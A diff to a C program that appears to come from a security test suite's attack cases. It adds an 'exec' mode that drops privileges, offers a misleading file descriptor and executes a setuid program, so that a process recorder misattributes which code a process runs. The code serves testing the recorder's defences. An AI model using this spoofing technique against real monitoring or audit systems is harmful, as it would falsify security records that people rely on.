@@ -1,9 +1,11 @@
 /* SPDX-License-Identifier: GPL-3.0-or-later */
 /*
- * shadow HOW FILE: has the recorder look into a file, which the process says that its code is of.
+ * shadow HOW FILE [PROGRAM]: has the recorder look into a file, which the process says that its code
+ * is of.
  *
  *	user	as the other user from the beginning
  *	was	by notes that root's process has handed over before it became the other user
+ *	exec	by notes of a process that executes PROGRAM, which becomes root
  */
 #include "attack.h"
 
@@ -11,12 +13,28 @@ enum { ADDRESS = 0x10000000, BYTES = 0x4000000, MS = 200 };
 
 static uint64_t image;
 
-static void point(void)
+static void point(struct spool_header *header)
+{
+	attack_fill(header, 0, monotonic_ns(), ADDRESS, 16);
+	attack_turn(header, 1);
+}
+
+/* Another process writes what it has handed over. */
+static void execute(const char *program, struct spool_notes *notes, const char *line)
 {
 	struct spool_header *header = attack_thread(NULL, getpid(), image, 4);
 
-	attack_fill(header, 0, monotonic_ns(), ADDRESS, 16);
-	attack_turn(header, 1);
+	usleep(100000); /* it is seen as the other user's */
+	if (attack_survive()) {
+		execl(program, program, "0.6", (char *)NULL);
+		_exit(75);
+	}
+	usleep(MS * 1000);
+	memcpy(notes->text, line, strlen(line));
+	usleep(100000);
+	point(header);
+	usleep(MS * 1000);
+	_exit(0);
 }
 
 int main(int count, char **words)
@@ -39,9 +57,11 @@ int main(int count, char **words)
 	attack_become(ATTACK_UID);
 	if (*words[1] != 'w')
 		attack_offer_fd(SPOOL_OFFER_PROGRAM, getpid(), image, fd);
+	if (count > 3)
+		execute(words[3], notes, line);
 	memcpy(notes->text, line, strlen(line));
 	usleep(100000);
-	point();
+	point(attack_thread(NULL, getpid(), image, 4));
 	usleep(MS * 1000);
 	return 0;
 }
